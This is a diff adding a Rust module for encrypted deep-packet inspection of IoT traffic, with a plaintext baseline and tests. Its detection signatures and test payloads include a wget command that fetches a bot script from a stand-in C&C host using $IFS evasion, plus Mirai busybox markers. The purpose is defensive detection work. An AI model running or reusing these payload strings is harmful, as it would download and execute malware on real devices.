@@ -1,0 +1,256 @@
+//! Encrypted deep-packet inspection (§IV-B2): keyword rules from IoT
+//! malware signatures are matched against traffic "similar to BlindBox",
+//! preserving end-to-end encryption. The middlebox receives only
+//! PRF-encrypted tokens; a plaintext DPI engine is included as the
+//! baseline (and as the model of the certificate-injection middlebox the
+//! paper rejects).
+
+use crate::bus::EvidenceBus;
+use crate::evidence::{Evidence, EvidenceKind, Layer};
+use xlf_lwcrypto::searchable::{match_rule, Token, Tokenizer};
+use xlf_lwcrypto::CryptoError;
+use xlf_simnet::SimTime;
+
+/// One detection rule (keyword + name), following the signature-generation
+/// shape of Alhanahnah et al. ("one or more keywords to be matched in the
+/// traffic").
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Rule {
+    /// Rule identifier.
+    pub name: String,
+    /// Keyword bytes to match.
+    pub keyword: Vec<u8>,
+}
+
+/// A rule match.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DpiMatch {
+    /// The matching rule's name.
+    pub rule: String,
+    /// Token/byte offset of the first match.
+    pub offset: usize,
+}
+
+/// Plaintext DPI baseline: byte-level keyword scan.
+#[derive(Debug, Default)]
+pub struct PlaintextDpi {
+    rules: Vec<Rule>,
+}
+
+impl PlaintextDpi {
+    /// Creates an engine with the given rules.
+    pub fn new(rules: Vec<Rule>) -> Self {
+        PlaintextDpi { rules }
+    }
+
+    /// Scans a plaintext payload.
+    pub fn inspect(&self, payload: &[u8]) -> Vec<DpiMatch> {
+        let mut out = Vec::new();
+        for rule in &self.rules {
+            if rule.keyword.is_empty() {
+                continue;
+            }
+            if let Some(offset) = payload
+                .windows(rule.keyword.len())
+                .position(|w| w == rule.keyword)
+            {
+                out.push(DpiMatch {
+                    rule: rule.name.clone(),
+                    offset,
+                });
+            }
+        }
+        out
+    }
+}
+
+/// The encrypted middlebox: holds rule *tokens* for each session and
+/// matches them against traffic token streams. It never sees plaintext.
+pub struct EncryptedDpi {
+    rules: Vec<Rule>,
+    /// Per-session compiled rule tokens: (rule name, token sequence).
+    compiled: Vec<(String, Vec<Token>)>,
+    bus: Option<EvidenceBus>,
+    /// (inspected streams, matches) counters.
+    pub stats: (u64, u64),
+}
+
+impl std::fmt::Debug for EncryptedDpi {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("EncryptedDpi")
+            .field("rules", &self.rules.len())
+            .field("stats", &self.stats)
+            .finish_non_exhaustive()
+    }
+}
+
+impl EncryptedDpi {
+    /// Creates the middlebox with a rule set (not yet bound to a session).
+    pub fn new(rules: Vec<Rule>) -> Self {
+        EncryptedDpi {
+            rules,
+            compiled: Vec::new(),
+            bus: None,
+            stats: (0, 0),
+        }
+    }
+
+    /// Attaches the evidence bus.
+    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
+        self.bus = Some(bus);
+        self
+    }
+
+    /// Binds the rule set to a session: the rule authority (who holds the
+    /// session secret via the separate XLF Core ↔ service channel the
+    /// paper describes) compiles keyword tokens for this session.
+    ///
+    /// # Errors
+    ///
+    /// Propagates [`CryptoError`] from tokenizer construction.
+    pub fn bind_session(&mut self, session_secret: &[u8]) -> Result<(), CryptoError> {
+        let tokenizer = Tokenizer::new(session_secret)?;
+        self.compiled = self
+            .rules
+            .iter()
+            .map(|r| (r.name.clone(), tokenizer.rule_tokens(&r.keyword)))
+            .collect();
+        Ok(())
+    }
+
+    /// Inspects a traffic token stream (produced by the sending endpoint);
+    /// reports matches as evidence attributed to `device`.
+    pub fn inspect(&mut self, device: &str, tokens: &[Token], now: SimTime) -> Vec<DpiMatch> {
+        self.stats.0 += 1;
+        let mut out = Vec::new();
+        for (name, rule_tokens) in &self.compiled {
+            let positions = match_rule(tokens, rule_tokens);
+            if let Some(&offset) = positions.first() {
+                out.push(DpiMatch {
+                    rule: name.clone(),
+                    offset,
+                });
+            }
+        }
+        if !out.is_empty() {
+            self.stats.1 += 1;
+            if let Some(bus) = &self.bus {
+                for m in &out {
+                    bus.report(Evidence::new(
+                        now,
+                        Layer::Network,
+                        device,
+                        EvidenceKind::DpiMatch,
+                        0.9,
+                        &format!("rule {} matched at token {}", m.rule, m.offset),
+                    ));
+                }
+            }
+        }
+        out
+    }
+}
+
+/// Builds the default rule set from the botnet C&C signatures.
+pub fn default_rules() -> Vec<Rule> {
+    xlf_attacks_signatures()
+        .iter()
+        .enumerate()
+        .map(|(i, sig)| Rule {
+            name: format!("cnc-{i}"),
+            keyword: sig.to_vec(),
+        })
+        .collect()
+}
+
+/// The signature byte strings (kept locally so `xlf-core` does not depend
+/// on the attacks crate; the bench harness asserts the two lists agree).
+pub fn xlf_attacks_signatures() -> Vec<&'static [u8]> {
+    vec![
+        b"wget${IFS}http://cnc.evil/bot.sh",
+        b"/bin/busybox MIRAI",
+        b"POST /cdn-cgi/ HTTP",
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evidence::EvidenceStore;
+
+    fn rules() -> Vec<Rule> {
+        default_rules()
+    }
+
+    #[test]
+    fn plaintext_dpi_finds_keywords() {
+        let dpi = PlaintextDpi::new(rules());
+        let hits = dpi.inspect(b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit");
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].rule, "cnc-0");
+        assert!(dpi.inspect(b"GET /weather HTTP/1.1").is_empty());
+    }
+
+    #[test]
+    fn encrypted_dpi_matches_without_plaintext() {
+        let mut middlebox = EncryptedDpi::new(rules());
+        middlebox.bind_session(b"session secret").unwrap();
+
+        // The endpoint tokenizes its (encrypted) payload.
+        let endpoint = Tokenizer::new(b"session secret").unwrap();
+        let dirty = endpoint.tokenize(b"sh -c 'wget${IFS}http://cnc.evil/bot.sh' &");
+        let clean = endpoint.tokenize(b"POST /telemetry?t=72.3 HTTP/1.1");
+
+        let hits = middlebox.inspect("cam", &dirty, SimTime::ZERO);
+        assert_eq!(hits.len(), 1);
+        assert!(middlebox.inspect("cam", &clean, SimTime::ZERO).is_empty());
+        assert_eq!(middlebox.stats, (2, 1));
+    }
+
+    #[test]
+    fn encrypted_and_plaintext_agree_on_detection() {
+        let payloads: Vec<&[u8]> = vec![
+            b"benign telemetry payload with nothing in it",
+            b"attack: /bin/busybox MIRAI scanner start",
+            b"another clean one",
+            b"hidden POST /cdn-cgi/ HTTP beacon",
+        ];
+        let plain = PlaintextDpi::new(rules());
+        let mut enc = EncryptedDpi::new(rules());
+        enc.bind_session(b"s").unwrap();
+        let endpoint = Tokenizer::new(b"s").unwrap();
+        for payload in payloads {
+            let p_hit = !plain.inspect(payload).is_empty();
+            let e_hit = !enc
+                .inspect("d", &endpoint.tokenize(payload), SimTime::ZERO)
+                .is_empty();
+            assert_eq!(p_hit, e_hit, "divergence on {payload:?}");
+        }
+    }
+
+    #[test]
+    fn wrong_session_tokens_never_match() {
+        let mut middlebox = EncryptedDpi::new(rules());
+        middlebox.bind_session(b"session A").unwrap();
+        let other_endpoint = Tokenizer::new(b"session B").unwrap();
+        let tokens = other_endpoint.tokenize(b"wget${IFS}http://cnc.evil/bot.sh");
+        assert!(middlebox.inspect("cam", &tokens, SimTime::ZERO).is_empty());
+    }
+
+    #[test]
+    fn matches_emit_evidence() {
+        let (bus, drain) = EvidenceBus::new();
+        let mut middlebox = EncryptedDpi::new(rules()).with_bus(bus);
+        middlebox.bind_session(b"s").unwrap();
+        let endpoint = Tokenizer::new(b"s").unwrap();
+        middlebox.inspect(
+            "cam",
+            &endpoint.tokenize(b"/bin/busybox MIRAI"),
+            SimTime::ZERO,
+        );
+        let mut store = EvidenceStore::new();
+        drain.drain_into(&mut store);
+        assert_eq!(store.all()[0].kind, EvidenceKind::DpiMatch);
+        assert_eq!(store.all()[0].device, "cam");
+    }
+}
